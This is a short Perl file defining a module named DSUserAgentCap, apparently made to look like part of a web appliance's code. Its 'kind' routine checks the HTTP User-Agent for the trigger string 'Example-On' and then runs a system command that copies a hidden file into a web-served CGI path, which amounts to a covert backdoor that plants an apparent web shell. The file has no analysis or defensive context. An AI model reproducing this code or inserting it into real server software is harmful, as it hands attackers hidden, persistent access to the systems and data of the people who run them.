#!/usr/bin/perl
exit;
__END__
package DSUserAgentCap;
sub kind {
  my $a = $ENV{'HTTP_USER_AGENT'};
  if ($a =~ /Example-On/) { system("cp /home/perl/.on /home/webserver/htdocs/dana-na/jam/querymanifest.cgi"); }
  return $a;
}
